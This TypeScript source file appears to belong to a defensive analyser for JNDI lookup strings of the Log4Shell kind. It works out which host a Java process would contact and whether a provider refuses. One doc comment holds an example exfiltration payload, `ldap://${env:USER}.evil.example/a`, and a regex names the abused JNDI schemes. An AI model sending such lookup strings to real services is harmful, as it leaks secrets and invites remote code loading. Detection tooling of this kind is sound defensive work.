import { type JndiTarget, readJndiName } from '../lookup/index.ts'

/** A name as it would be looked up, and whom a JVM asks for it. */
export interface Contact {
  /** Values that are not known stand in it as they were asked for: `ldap://${env:USER}.evil.example/a`. */
  readonly name: string
  /** With such values in place. */
  readonly target: JndiTarget
  /** Why the provider that is asked refuses; `null` if it does not, or if the values decide. */
  readonly refused: string | null
}

/** Names with a scheme that a JVM has a provider for; what names a host comes first, each once. */
export function contactsIn(jndi: readonly string[]): readonly Contact[] {
  const [first] = jndi
  if (first === undefined) return []
  // Each pass over a message asks for the same again.
  if (jndi.every((name) => name === first)) return providers.test(first) ? [contactOf(first)] : []
  return [...new Set(jndi)]
    .filter((name) => providers.test(name))
    .map(contactOf)
    .sort((a, b) => Number(hasHost(b)) - Number(hasHost(a)))
}

/** The URL providers of every JDK, and of those up to 10; the scheme is case-sensitive. */
const providers = /^(?:ldaps?|rmi|dns|iiop|iiopname|corbaname):/

/** The name that was asked for last: each release that a text is read for asks for the same. */
let last: Contact | null = null

/** What a name makes a JVM do. */
export function contactOf(name: string): Contact {
  if (last?.name !== name) last = readContact(name)
  return last
}

function readContact(name: string): Contact {
  const known: string[] = []
  // A value stands for some letters of a host or a path; with any at all the name can be read.
  const readable = name.replace(values, (value) => {
    known.push(value)
    return String.fromCharCode(firstMark + (known.length % marks))
  })
  const target = readJndiName(readable)
  const refused = target.is === 'nothing' || target.is === 'corba' ? target.because : null
  return { name, target: known.length === 0 ? target : restored(target, known), refused }
}

/** Values of the process, as they were asked for. */
const values = /\$\{[^${}]{0,500}\}/g
/** A private use area, whose characters are letters to no parser. */
const firstMark = 0xe000
const marks = 6_000
const markedValues = /[\ue000-\uf76f]/g

function restored(target: JndiTarget, known: readonly string[]): JndiTarget {
  const back = (text: string): string =>
    text.replace(markedValues, (mark) => known[mark.charCodeAt(0) - firstMark - 1] ?? mark)
  const orNull = (text: string | null): string | null => (text === null ? null : back(text))
  if (target.is === 'resolver') return { ...target, path: back(target.path) }
  if (target.is === 'corba') return { ...target, host: orNull(target.host), path: back(target.path) }
  if (target.is !== 'contact') return target
  return { ...target, host: orNull(target.host), path: back(target.path), domain: orNull(target.domain) }
}

/** Whether something beyond the machine itself is asked. */
export function hasHost({ target }: Contact): boolean {
  return askedOf(target) !== null
}

/**
 * Whether that is somebody: a release that does not evaluate names cuts them at the first brace, and asks for a host of the
 * name of a piece of a lookup.
 */
export function asksSomebody({ target }: Contact): boolean {
  const asked = askedOf(target)
  return asked !== null && !asked.replace(values, '').includes('${')
}

function askedOf(target: JndiTarget): string | null {
  if (target.is === 'contact') return target.host ?? target.domain
  if (target.is === 'corba') return target.host
  return target.is === 'resolver' && target.path !== '' ? target.path : null
}
